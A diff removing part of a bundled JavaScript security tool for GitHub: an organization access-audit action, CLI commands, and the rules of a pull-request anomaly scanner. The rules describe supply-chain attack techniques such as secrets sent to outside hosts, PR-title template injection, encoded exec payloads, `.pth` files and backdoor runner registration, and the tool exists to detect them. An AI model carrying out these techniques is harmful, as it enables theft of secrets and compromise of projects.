5).","type":"integer","minimum":2},"token-secret-patterns":{"description":"Regular expressions (case-insensitive) of secret names that look like long-lived publish tokens; replaces the defaults.","type":"array","items":{"type":"string","minLength":1}},"release-environments":{"description":"Regular expression (case-insensitive) of environment names treated as release environments.","type":"string","minLength":1},"allowed-apps":{"description":"GitHub App slugs approved to be installed on all repositories with write access (org/app-broad-write is not reported for them).","type":"array","items":{"type":"string","minLength":1}},"require-signed-commits":{"description":"Repositories (names or globs; true: all) whose default branch must require signed commits (repo/signed-commits-not-required). Default: not checked.","oneOf":[{"type":"boolean"},{"type":"array","items":{"type":"string","minLength":1}}]},"custom-properties":{"description":"Organization custom properties that mark repositories: exempt ones are not audited, critical ones have every finding raised one severity.","type":"object","additionalProperties":false,"properties":{"exempt":{"$ref":"#/definitions/propertyMatch"},"critical":{"$ref":"#/definitions/propertyMatch"}}}},"definitions":{"propertyMatch":{"description":"A custom property and the value (or values) that mark a repository.","type":"object","additionalProperties":false,"required":["property","value"],"properties":{"property":{"type":"string","minLength":1},"value":{"oneOf":[{"type":"string","minLength":1},{"type":"array","minItems":1,"items":{"type":"string","minLength":1}}]}}}}}');
-;// CONCATENATED MODULE: ./actions/access-audit/src/main.ts
-// access-audit adapter: read inputs and config, build the GitHub client, call
-// the engine (or merge shard reports), and keep one dashboard issue current.
-
-
-
-
-
-
-
-function auditIO(client) {
-    // The REST core budget only: GraphQL answers report their own (points) budget.
-    let restRemaining;
-    const track = (headers) => {
-        const v = headers?.['x-ratelimit-remaining'];
-        if (v !== undefined && headers?.['x-ratelimit-resource'] !== 'graphql')
-            restRemaining = Number(v);
-    };
-    return {
-        async graphql(query, variables) {
-            try {
-                return { data: await client.graphql(query, variables) };
-            }
-            catch (e) {
-                // Octokit rejects on any `errors`, partial answers included; keep the data it carries.
-                const err = e;
-                if (err.name === 'GraphqlResponseError' && err.errors) {
-                    if (err.errors.some((x) => x.type === 'RATE_LIMITED') && !err.data)
-                        throw Object.assign(new Error('GitHub GraphQL rate limit exhausted (RATE_LIMITED)'), { status: 429 });
-                    return { data: err.data, errors: err.errors };
-                }
-                throw e;
-            }
-        },
-        async request(route, params) {
-            try {
-                const res = await client.rest.request(route, params);
-                track(res.headers);
-                return res;
-            }
-            catch (e) {
-                track(e.response?.headers);
-                throw e;
-            }
-        },
-        remaining: () => restRemaining
-    };
-}
-/** The `access-audit` section of the config file (validated by the core schema). */
-function auditConfig(section) {
-    const s = (section ?? {});
-    const signed = s['require-signed-commits'];
-    return {
-        exemptions: s.exemptions ?? [],
-        packages: s.packages ?? {},
-        maxOwners: s['max-owners'] ?? DEFAULT_AUDIT_CONFIG.maxOwners,
-        maxAdmins: s['max-admins'] ?? DEFAULT_AUDIT_CONFIG.maxAdmins,
-        tokenSecretPatterns: s['token-secret-patterns']?.map((p) => new RegExp(p, 'i')) ?? DEFAULT_AUDIT_CONFIG.tokenSecretPatterns,
-        releaseEnvironments: s['release-environments']
-            ? new RegExp(s['release-environments'], 'i')
-            : DEFAULT_AUDIT_CONFIG.releaseEnvironments,
-        allowedApps: (s['allowed-apps'] ?? []).map((a) => a.toLowerCase()),
-        requireSignedCommits: signed === true ? ['*'] : Array.isArray(signed) ? signed : [],
-        customProperties: s['custom-properties'] ?? {}
-    };
-}
-function parseShard(text) {
-    if (!text)
-        return undefined;
-    const m = /^(\d+)\/(\d+)$/.exec(text);
-    if (!m || Number(m[1]) < 1 || Number(m[1]) > Number(m[2]))
-        throw new UserError(`Input 'shard' must look like i/n with 1 ≤ i ≤ n (e.g. 2/4); got '${text}'.`);
-    return { index: Number(m[1]), count: Number(m[2]) };
-}
-async function readReport(ctx, file) {
-    const path = (0,external_node_path_.resolve)(ctx.workspace, file);
-    let text;
-    try {
-        text = await (0,promises_.readFile)(path, 'utf8');
-    }
-    catch (e) {
-        throw new UserError(`${file}: cannot read the report (${e.code ?? 'error'})`);
-    }
-    try {
-        const r = JSON.parse(text);
-        if (!Array.isArray(r.findings) || !Array.isArray(r.notChecked))
-            throw new Error('not a security-actions JSON report');
-        return r;
-    }
-    catch (e) {
-        throw new UserError(`${file}: ${e.message.split('\n')[0]}`);
-    }
-}
-let dashboard;
-/**
- * Whether the repository this workflow runs in is public: the event payload
- * says so for most events (not for `schedule`), else its metadata is read.
- * Undefined when neither could tell.
- */
-async function isPublicRepository(ctx, tokens) {
-    const visible = (r) => typeof r.visibility === 'string' ? r.visibility === 'public' : r.private === false;
-    const fromEvent = ctx.event?.repository;
-    if (fromEvent && (typeof fromEvent.private === 'boolean' || typeof fromEvent.visibility === 'string'))
-        return { public: visible(fromEvent) };
-    const [owner, repo] = (ctx.env.GITHUB_REPOSITORY ?? '').split('/');
-    if (!owner || !repo)
-        return { why: 'GITHUB_REPOSITORY is not set' };
-    let why = 'no token to ask GitHub with';
-    for (const token of tokens.filter(Boolean)) {
-        try {
-            const { data } = await (await ctx.github(token)).rest.request('GET /repos/{owner}/{repo}', { owner, repo });
-            return { public: visible(data) };
-        }
-        catch (e) {
-            why = describeApiError(e, 'metadata: read');
-        }
-    }
-    return { why };
-}
-const definition = {
-    name: 'access-audit',
-    rules: REGISTRY,
-    configSchema: access_audit_config_schema_namespaceObject,
-    async run(ctx) {
-        const { inputs } = ctx;
-        const token = inputs.string('token', { required: true });
-        const org = inputs.string('org') || (ctx.env.GITHUB_REPOSITORY ?? '').split('/')[0];
-        const repositories = inputs.list('repositories');
-        const includeArchived = inputs.boolean('include-archived', false);
-        const includeForks = inputs.boolean('include-forks', false);
-        const inactiveDays = inputs.integer('inactive-days', 180, { min: 1 });
-        inputs.boolean('issue', true);
-        inputs.string('issue-token');
-        const previousFile = inputs.string('previous-report');
-        const mergeFiles = inputs.lines('merge-reports');
-        const pypiUrl = inputs.url('pypi-url', 'https://pypi.org');
-        const shard = parseShard(inputs.string('shard'));
-        const previous = previousFile ? await readReport(ctx, previousFile) : undefined;
-        const allowPublic = inputs.boolean('allow-public-repository', false);
-        // The report names people without 2FA, secret names and weak settings: in a public repository
-        // the job summary, the logs and the dashboard issue are readable by anyone.
-        if (ctx.env.GITHUB_ACTIONS === 'true' && !allowPublic) {
-            const where = ctx.env.GITHUB_REPOSITORY ?? 'this repository';
-            const visibility = await isPublicRepository(ctx, [inputs.string('issue-token'), token]);
-            if (visibility.public !== false) {
-                throw new UserError(`${where} ${visibility.public ? 'is public' : `may be public (its visibility could not be read: ${visibility.why})`}: the audit's summary, logs and dashboard issue would show anyone who lacks 2FA, secret names and weak settings. Run it from a private repository (for example ${(ctx.env.GITHUB_REPOSITORY ?? 'org/').split('/')[0]}/.github-private), or set allow-public-repository: true.`);
-            }
-        }
-        if (mergeFiles.length) {
-            const merged = mergeReports(await Promise.all(mergeFiles.map((f) => readReport(ctx, f))));
-            dashboard = { org: merged.target ?? org, audited: merged.audited, previous };
-            return {
-                rules: merged.rules,
-                findings: merged.findings,
-                notChecked: merged.notChecked,
-                notes: merged.notes,
-                target: merged.target,
-                data: merged.data,
-                stats: merged.stats,
-                preamble: dashboardPreamble(dashboard, merged.findings, merged.notChecked),
-                outputs: {
-                    'repos-audited': String(merged.audited),
-                    'repos-skipped': String(merged.skipped),
-                    'api-requests': String(merged.requests)
-                }
-            };
-        }
-        if (!org)
-            throw new UserError("Input 'org' is empty and GITHUB_REPOSITORY is not set.");
-        const client = await ctx.github(token);
-        const result = await audit(auditIO(client), {
-            org,
-            repositories,
-            includeArchived,
-            includeForks,
-            inactiveDays,
-            shard,
-            now: new Date(),
-            config: auditConfig(ctx.config.sections['access-audit']),
-            previous: previous?.data?.access
-                ? { finishedAt: previous.finishedAt, access: previous.data.access }
-                : undefined,
-            pypi: new PyPIClient(pypiUrl, new HttpClient('PyPI', { userAgent: 'security-actions access-audit' }))
-        });
-        dashboard = { org, audited: result.audited, previous };
-        return {
-            rules: result.rules,
-            findings: result.findings,
-            notChecked: result.notChecked,
-            notes: result.notes,
-            suppressions: result.suppressions,
-            target: result.target,
-            data: { access: result.access },
-            stats: { 'repos audited': result.audited, 'repos skipped': result.skipped, 'repos listed': result.listed },
-            preamble: dashboardPreamble(dashboard, result.findings, result.notChecked),
-            outputs: {
-                'repos-audited': String(result.audited),
-                'repos-skipped': String(result.skipped),
-                'api-requests': String(client.stats.requests)
-            }
-        };
-    },
-    async publish(ctx, report) {
-        if (!ctx.inputs.boolean('issue', true) || !dashboard)
-            return;
-        const token = ctx.inputs.string('issue-token');
-        const repo = ctx.env.GITHUB_REPOSITORY;
-        if (!token || !repo)
-            return ['dashboard issue not updated: issue-token or GITHUB_REPOSITORY is empty'];
-        const client = await ctx.github(token);
-        const marker = `security-actions:access-audit:${dashboard.org}`;
-        const body = renderMarkdown(report, {
-            marker,
-            preamble: dashboardPreamble(dashboard, report.findings, report.notChecked)
-        });
-        return [await publishDashboard(client.rest, repo, marker, body)];
-    }
-};
-async function run(runtime) {
-    await runAction(definition, runtime ?? (await actionsRuntime()));
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/audit.ts
-
-
-const audit_audit = {
-    summary: 'audit who holds the keys of a GitHub organization (SPEC 6, SPEC 8)',
-    usage: '--org ORG [--token TOKEN] [--repositories GLOBS] [options]',
-    // It reads GitHub, not a checkout; --config is read from the current directory.
-    checkout: false,
-    checks: [
-        {
-            definition: definition,
-            // Locally there is no dashboard issue to keep.
-            fixed: { issue: 'false' },
-            inputs: {
-                org: 'org',
-                token: 'token',
-                repositories: 'repositories',
-                'include-archived': 'include-archived',
-                'include-forks': 'include-forks',
-                'inactive-days': 'inactive-days',
-                shard: 'shard',
-                'previous-report': 'previous-report'
-            }
-        }
-    ],
-    options: {
-        org: { type: 'string', value: 'ORG', required: true, help: 'organization to audit' },
-        token: {
-            type: 'string',
-            value: 'TOKEN',
-            env: 'GITHUB_TOKEN',
-            required: true,
-            help: 'read-only token (default: $GITHUB_TOKEN); it goes to GitHub only, never to output'
-        },
-        repositories: { type: 'string', value: 'GLOBS', help: 'comma-separated repository names or globs' },
-        'include-archived': { type: 'boolean', help: 'also audit archived repositories' },
-        'include-forks': { type: 'boolean', help: 'also audit forks' },
-        'inactive-days': {
-            type: 'string',
-            value: 'DAYS',
-            help: 'days without activity before a maintainer is "possibly inactive" (default: 180)'
-        },
-        shard: { type: 'string', value: 'I/N', help: 'audit one shard of the repositories, e.g. 2/4' },
-        'previous-report': {
-            type: 'string',
-            value: 'FILE',
-            help: 'JSON report of the previous run, for the trend and the people who left'
-        },
-        ...REPORT_OPTIONS
-    }
-};
-
-// EXTERNAL MODULE: external "node:fs"
-var external_node_fs_ = __nccwpck_require__(3024);
-// EXTERNAL MODULE: external "node:url"
-var external_node_url_ = __nccwpck_require__(3136);
-;// CONCATENATED MODULE: external "node:os"
-const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
-;// CONCATENATED MODULE: ./packages/cli/src/runtime.ts
-
-function cliRuntime(env, warn, progress) {
-    const rt = {
-        env,
-        outputs: {},
-        now: () => new Date(),
-        setOutput: (n, v) => {
-            rt.outputs[n] = v;
-        },
-        // The CLI decides the exit status from the report itself (main.ts).
-        setFailed: () => undefined,
-        appendSummary: async () => undefined,
-        annotate: () => undefined,
-        info: (m) => progress.message(errors_redact(m)),
-        warning: (m) => warn(`warning: ${errors_redact(m)}`),
-        debug: () => undefined
-    };
-    return rt;
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/run.ts
-// Runs a report command's checks: each is an action definition run through
-// the shared adapter, with the command's flags mapped to the action's inputs.
-// The adapter's own report files go to a temporary directory; the command
-// prints and writes its reports itself, from the Report objects.
-
-
-
-
-
-
-/** Common inputs every reporting action reads, and the flag that sets each. */
-const COMMON_INPUTS = { config: 'config', 'fail-on': 'fail-on' };
-/** The checkout named by --repo: a local directory that exists; a URL is refused with what to do instead. */
-async function checkoutOf(values, io) {
-    const given = typeof values.repo === 'string' ? values.repo : '.';
-    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(given) || /^[\w.-]+@[\w.-]+:/.test(given))
-        throw new UsageError(`--repo takes a local checkout, not a URL; clone it first (git clone ${given} DIR) and give --repo DIR`);
-    const dir = (0,external_node_path_.resolve)(io.cwd, given);
-    const s = await (0,promises_.stat)(dir).catch(() => undefined);
-    if (!s)
-        throw new UsageError(`--repo ${given}: no such directory`);
-    if (!s.isDirectory())
-        throw new UsageError(`--repo ${given}: not a directory`);
-    return dir;
-}
-/** The value of each flag that has one, from the command line or its environment variable. */
-function flagValue(cmd, values, io, flag) {
-    const v = values[flag];
-    if (typeof v === 'boolean')
-        return String(v);
-    if (typeof v === 'string')
-        return v;
-    const env = cmd.options[flag]?.env;
-    return env ? io.env[env] || undefined : undefined;
-}
-async function runChecks(cmd, values, io, progress) {
-    const workspace = cmd.checkout ? await checkoutOf(values, io) : io.cwd;
-    const runs = [];
-    for (const check of cmd.checks) {
-        const temp = await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_namespaceObject.tmpdir)(), 'sp-security-'));
-        const env = {
-            PATH: io.env.PATH,
-            HOME: io.env.HOME,
-            GITHUB_WORKSPACE: workspace,
-            RUNNER_TEMP: temp,
-            GITHUB_API_URL: io.env.GITHUB_API_URL,
-            GITHUB_GRAPHQL_URL: io.env.GITHUB_GRAPHQL_URL
-        };
-        const set = (input, v) => {
-            if (v !== undefined)
-                env[inputEnvName(input)] = v;
-        };
-        for (const [flag, input] of Object.entries(COMMON_INPUTS))
-            set(input, flagValue(cmd, values, io, flag));
-        for (const [k, v] of Object.entries(check.fixed ?? {}))
-            set(k, v);
-        for (const [flag, input] of Object.entries(check.inputs))
-            set(input, flagValue(cmd, values, io, flag));
-        let failure;
-        const rt = cliRuntime(env, io.err, progress);
-        rt.setFailed = (m) => {
-            failure = m;
-        };
-        progress.start(check.definition.name);
-        let report;
-        try {
-            report = await action_runAction(check.definition, rt);
-        }
-        finally {
-            progress.stop();
-            await (0,promises_.rm)(temp, { recursive: true, force: true });
-        }
-        runs.push({ check, report: inFlagWords(report, cmd, check), failed: failure !== undefined });
-    }
-    return { workspace, runs };
-}
-/** The report's messages with each input the command sets through a flag named as that flag. */
-function inFlagWords(report, cmd, check) {
-    const flags = new Map();
-    for (const [flag, input] of Object.entries({ ...COMMON_INPUTS, ...check.inputs })) {
-        const env = cmd.options[flag]?.env;
-        flags.set(input, `--${flag}${env ? ` (or ${env})` : ''}`);
-    }
-    const say = (m) => renameInputs(m, (input) => flags.get(input));
-    return {
-        ...report,
-        errors: report.errors.map(say),
-        notes: report.notes.map(say),
-        notChecked: report.notChecked.map((n) => ({ ...n, reason: say(n.reason) }))
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/cli/src/commands/init.ts
-// `init`: drop the suite's starter workflows (workflows-templates/*.yml, as
-// committed: every action pinned to a full SHA with a comment naming its
-// release tag) and a config file into a repository, or with --org into the
-// `workflow-templates/` folder of an organization's `.github` repository,
-// where GitHub offers org starter workflows. Nothing is overwritten without
-// --force, and nothing is written unless every file can be.
-
-
-
-
-
-
-
-
-/** What a project repository gets unless --workflows says otherwise; access-audit belongs in a private org repository. */
-const PROJECT_DEFAULT = ['pr-anomaly-scan', 'release', 'verify-deps'];
-const SUITE = 'scientific-python/security-actions';
-/** This suite's checkout (the CLI runs from it): the folder above this file that holds workflows-templates/. */
-function suiteRoot() {
-    let dir = (0,external_node_path_.dirname)((0,external_node_url_.fileURLToPath)(import.meta.url));
-    while (!(0,external_node_fs_.existsSync)((0,external_node_path_.join)(dir, 'workflows-templates')) || !(0,external_node_fs_.existsSync)((0,external_node_path_.join)(dir, 'package.json'))) {
-        const up = (0,external_node_path_.dirname)(dir);
-        if (up === dir)
-            throw new Error('cannot find workflows-templates/ beside this sp-security');
-        dir = up;
-    }
-    return dir;
-}
-/** The release tag the templates pin this suite at (`@<sha> # vX.Y.Z`). */
-function pinnedTag(texts) {
-    for (const t of texts) {
-        const m = new RegExp(`${SUITE}/actions/[a-z0-9-]+@[0-9a-f]{40} # (v\\d+\\.\\d+\\.\\d+\\S*)`).exec(t);
-        if (m)
-            return m[1];
-    }
-    return `v${VERSION}`;
-}
-function schemaUrl(tag) {
-    return `https://raw.githubusercontent.com/${SUITE}/${tag}/packages/core/schema/config.schema.json`;
-}
-/** A starter config: valid as it stands, with the two common settings shown as comments. */
-function starterConfig(tag) {
-    return `# yaml-language-server: $schema=${schemaUrl(tag)}
-# security-actions settings for this repository: docs/configuration.md in
-# https://github.com/${SUITE}/tree/${tag}
-version: 1
-
-# Severity overrides, by rule id (the rule ids are in every report):
-# rules:
-#   actions/no-version-comment:
-#     severity: info
-#     reason: Dependabot keeps our pins; the comment is nice to have.
-
-# Suppressions: each needs a reason and should expire; the findings come back after that day.
-# ignores:
-#   - rule: actions/docker-unpinned
-#     path: .github/workflows/release.yml
-#     reason: The image only prints its version; tracked in issue 42.
-#     expires: 2026-12-31
-`;
-}
-const init = {
-    summary: "write the starter workflows and a config into a repository, or into an organization's .github repository",
-    usage: '[--repo PATH] [--org] [--workflows LIST] [--force]',
-    options: {
-        ...REPO_OPTION,
-        org: {
-            type: 'boolean',
-            help: "PATH is a checkout of the organization's .github repository: write the starter workflows and their .properties.json into its workflow-templates/, where GitHub offers them to every repository of the organization"
-        },
-        workflows: {
-            type: 'string',
-            value: 'LIST',
-            help: `comma-separated: access-audit, pr-anomaly-scan, release, verify-deps, or all (default: ${PROJECT_DEFAULT.join(', ')}; with --org, all)`
-        },
-        force: { type: 'boolean', help: 'overwrite files that exist' },
-        ...HELP_OPTION
-    },
-    notes: [
-        'The workflows pin every action to a full commit SHA with a comment naming its release tag, as the suite asks of others.',
-        'Exit status: 0 written; 2 a usage error, or a file exists and --force was not given (then nothing is written).'
-    ],
-    async run(values, io) {
-        const target = await checkoutOf(values, io);
-        const root = suiteRoot();
-        const available = (await (0,promises_.readdir)((0,external_node_path_.join)(root, 'workflows-templates')))
-            .filter((f) => f.endsWith('.yml'))
-            .map((f) => f.slice(0, -4))
-            .sort();
-        const asked = typeof values.workflows === 'string' ? values.workflows.split(',').map((s) => s.trim()) : [];
-        const names = asked.includes('all')
-            ? available
-            : asked.filter(Boolean).length
-                ? asked
-                : values.org
-                    ? available
-                    : PROJECT_DEFAULT;
-        const unknown = names.filter((n) => !available.includes(n));
-        if (unknown.length)
-            throw new UsageError(`--workflows: no starter workflow named ${unknown.join(', ')} (there are: ${available.join(', ')})`);
-        const read = (f) => (0,promises_.readFile)((0,external_node_path_.join)(root, 'workflows-templates', f), 'utf8');
-        const files = new Map();
-        for (const n of names) {
-            if (values.org) {
-                files.set(`workflow-templates/${n}.yml`, await read(`${n}.yml`));
-                files.set(`workflow-templates/${n}.properties.json`, await read(`${n}.properties.json`));
-            }
-            else
-                files.set(`.github/workflows/${n}.yml`, await read(`${n}.yml`));
-        }
-        if (!values.org)
-            files.set(DEFAULT_CONFIG_PATH, starterConfig(pinnedTag([...files.values()])));
-        const existing = [...files.keys()].filter((f) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(target, f)));
-        if (existing.length && !values.force) {
-            io.err(`init: not overwriting ${existing.join(', ')} in ${target} (give --force to replace them); nothing written`);
-            return EXIT.usage;
-        }
-        for (const [f, text] of files) {
-            await (0,promises_.mkdir)((0,external_node_path_.dirname)((0,external_node_path_.join)(target, f)), { recursive: true });
-            await (0,promises_.writeFile)((0,external_node_path_.join)(target, f), text);
-            io.out(`wrote ${(0,external_node_path_.relative)(io.cwd, (0,external_node_path_.join)(target, f)) || f}\n`);
-        }
-        io.out(values.org
-            ? "\nCommit them to the default branch of the organization's .github repository: GitHub then offers them under Actions → New workflow in every repository.\n"
-            : '\nReview and commit them. Each workflow says at its top what it needs first (release.yml: a protected `pypi` environment and a trusted publisher on PyPI).\n');
-        return EXIT.ok;
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/incidents.ts
-// The incidents the rules cite as references.
-const XZ = {
-    title: 'xz-utils backdoor (CVE-2024-3094)',
-    url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
-};
-const ULTRALYTICS = {
-    title: 'Ultralytics branch-name injection (2024)',
-    url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection'
-};
-const TJ = {
-    title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
-    url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
-};
-const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
-const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
-const PYTORCH = {
-    title: 'PyTorch self-hosted runner compromise (2024)',
-    url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
-};
-
-;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
-// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
-// code-scanning alerts refer to them. A rule's group (its id's prefix) is the
-// family the risk score chains.
-
-
-// --- workflows ---------------------------------------------------------------
-const rules_RULES = defineRules({
-    WF_DANGEROUS_TRIGGER: {
-        id: 'workflow/dangerous-trigger',
-        title: 'pull_request_target / workflow_run workflow that uses PR code',
-        severity: 'critical',
-        why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
-        remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
-        spec: ['S8-16', 'S8-6'],
-        references: [ULTRALYTICS, PYTORCH]
-    },
-    WF_TEMPLATE_INJECTION: {
-        id: 'workflow/template-injection',
-        title: 'Attacker-controlled expression expanded into a script',
-        severity: 'high',
-        why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
-        remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
-        spec: ['S8-16'],
-        references: [ULTRALYTICS]
-    },
-    WF_SECRETS_EXFIL: {
-        id: 'workflow/secrets-to-outside-host',
-        title: 'Workflow sends secrets to an outside host',
-        severity: 'critical',
-        why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
-        remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
-        spec: ['S6-7', 'S8-16'],
-        references: [GHOST]
-    },
-    WF_TOJSON_SECRETS: {
-        id: 'workflow/all-secrets',
-        title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
-        severity: 'high',
-        why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
-        remediation: 'Pass only the named secrets the step needs.',
-        spec: ['S6-7', 'S6-4'],
-        references: [GHOST]
-    },
-    WF_SELF_HOSTED: {
-        id: 'workflow/self-hosted-pr',
-        title: 'Self-hosted runner reachable from pull requests',
-        severity: 'high',
-        why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
-        remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
-        spec: ['S8-16'],
-        references: [PYTORCH]
-    },
-    WF_UNPINNED: {
-        id: 'workflow/unpinned-uses',
-        title: 'New action reference not pinned to a commit SHA',
-        severity: 'medium',
-        why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
-        remediation: 'Pin the action to the full commit SHA with the version as a comment.',
-        spec: ['S8-9'],
-        references: [TJ]
-    },
-    WF_PERMISSIONS: {
-        id: 'workflow/write-permissions',
-        title: 'New write permissions for the workflow token',
-        severity: 'medium',
-        why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
-        remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
-        spec: ['S8-6']
-    },
-    WF_UNTRUSTED_TRIGGER: {
-        id: 'workflow/untrusted-trigger',
-        title: 'New trigger on comments or discussions',
-        severity: 'medium',
-        why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
-        remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
-        spec: ['S8-16'],
-        references: [GHOST]
-    },
-    WF_RUNNER_REGISTRATION: {
-        id: 'workflow/runner-registration',
-        title: 'Workflow registers a self-hosted runner',
-        severity: 'critical',
-        why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
-        remediation: 'Remove the step; register runners by hand from a trusted machine.',
-        spec: ['S8-16'],
-        references: [GHOST]
-    },
-    // --- build system ------------------------------------------------------------
-    BUILD_SETUP_PY: {
-        id: 'build/setup-py',
-        title: 'setup.py gains install-time code (cmdclass, network, processes)',
-        severity: 'high',
-        why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
-        remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
-        spec: ['S8-16']
-    },
-    BUILD_BACKEND: {
-        id: 'build/build-backend',
-        title: 'Build backend changed',
-        severity: 'high',
-        why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
-        remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
-        spec: ['S8-16']
-    },
-    BUILD_NATIVE: {
-        id: 'build/native-build-script',
-        title: 'Meson or CMake script runs commands or downloads',
-        severity: 'medium',
-        why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
-        remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
-        spec: ['S8-16'],
-        references: [XZ]
-    },
-    BUILD_AUTOTOOLS: {
-        id: 'build/autotools',
-        title: 'Autotools or m4 macro changed',
-        severity: 'medium',
-        why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
-        remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
-        spec: ['S8-16'],
-        references: [XZ]
-    },
-    BUILD_TEST_HOOK: {
-        id: 'build/test-runner-hook',
-        title: 'Test or task runner configuration runs processes or downloads',
-        severity: 'medium',
-        why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
-        remediation: 'Review the added command; keep network and process calls out of test configuration.',
-        spec: ['S8-16']
-    },
-    BUILD_PRECOMMIT_LOCAL: {
-        id: 'build/pre-commit-local',
-        title: 'Local pre-commit hook added',
-        severity: 'medium',
-        why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
-        remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
-        spec: ['S8-16']
-    },
-    BUILD_PTH: {
-        id: 'build/pth-file',
-        title: '`.pth` file added',
-        severity: 'high',
-        why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
-        remediation: 'Remove the file unless it only lists paths.',
-        spec: ['S8-16']
-    },
-    BUILD_IMPORT_PROCESS: {
-        id: 'build/import-time-process',
-        title: 'Process or thread started at import time',
-        severity: 'medium',
-        why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
-        remediation: 'Move the call into a function called explicitly.',
-        spec: ['S8-16']
-    },
-    // --- opaque content ----------------------------------------------------------
-    BIN_OPAQUE: {
-        id: 'binary/opaque-file',
-        title: 'Opaque binary file added or changed',
-        severity: 'medium',
-        why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
-        remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
-        spec: ['S8-16'],
-        references: [XZ],
-        pathIgnorable: false
-    },
-    BIN_EXECUTABLE: {
-        id: 'binary/executable',
-        title: 'Executable or loadable binary added',
-        severity: 'high',
-        why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
-        remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
-        spec: ['S8-16'],
-        pathIgnorable: false
-    },
-    BIN_ARCHIVE_TESTS: {
-        id: 'binary/compressed-test-data',
-        title: 'Compressed archive or blob under tests',
-        severity: 'medium',
-        why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
-        remediation: 'Ask how the fixture was generated and regenerate it yourself.',
-        spec: ['S8-16'],
-        references: [XZ],
-        pathIgnorable: false
-    },
-    BIN_ONLY: {
-        id: 'binary/binary-only-change',
-        title: 'Binary files changed with no text change',
-        severity: 'high',
-        why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
-        remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
-        spec: ['S8-16'],
-        references: [XZ],
-        pathIgnorable: false
-    },
-    // --- obfuscation ---------------------------------------------------------------
-    OBF_ENCODED_EXEC: {
-        id: 'obfuscation/encoded-exec',
-        title: 'Encoded data reaches code execution',
-        severity: 'critical',
-        why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
-        remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
-        spec: ['S8-16'],
-        references: [TJ],
-        pathIgnorable: false
-    },
-    OBF_LONG_LITERAL: {
-        id: 'obfuscation/long-encoded-literal',
-        title: 'Long base64 or hex literal added',
-        severity: 'low',
-        why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
-        remediation: 'Check what the data decodes to and where it is used.',
-        spec: ['S8-16'],
-        pathIgnorable: false
-    },
-    OBF_DECOMPRESS: {
-        id: 'obfuscation/decompress-literal',
-        title: 'Literal decompressed or unmarshalled in code',
